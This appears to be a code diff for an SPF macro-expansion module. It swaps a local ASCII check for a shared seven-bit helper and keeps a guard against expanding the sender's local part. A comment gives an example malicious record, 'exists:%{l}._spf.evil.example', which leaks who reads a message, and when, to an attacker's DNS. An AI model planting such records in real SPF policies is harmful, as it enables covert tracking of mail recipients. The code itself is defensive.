@@ -1,5 +1,6 @@
 /** The name that a term is about: its domain-spec, expanded, or the domain in hand (RFC 7208 §4.8). */
 
+import { isSevenBit } from '../bytes/ascii.ts';
 import type { SpfContext, SpfError } from './context.ts';
 import type { MacroString } from './domain-spec.ts';
 import { expandDomain, type MacroValues, usesLetter } from './macro.ts';
@@ -24,7 +25,7 @@ export async function targetName(
 ): Promise<Target> {
   if (!spec) return { name: domain };
   if (usesLetter(spec, LOCAL_PART_LETTERS)) {
-    if (!isAscii(context.subject.localPart)) return { name: null };
+    if (!isSevenBit(context.subject.localPart)) return { name: null };
     // Attack: "exists:%{l}._spf.evil.example" makes the very question tell the sender's DNS who reads the message, and when.
     if (!context.subject.askLocalPart) {
       return { error: { code: 'spf_temperror_local_part', term, domain, values: {}, warnings: [] } };
@@ -37,9 +38,4 @@ export async function targetName(
 export async function macroValues(context: SpfContext, parts: MacroString, domain: string): Promise<MacroValues> {
   const validatedName = usesLetter(parts, 'p') ? await validatedNameFor(context, domain) : 'unknown';
   return { ...context.subject, domain, validatedName };
-}
-
-function isAscii(text: string): boolean {
-  for (let at = 0; at < text.length; at++) if (text.charCodeAt(at) > 0x7f) return false;
-  return true;
 }
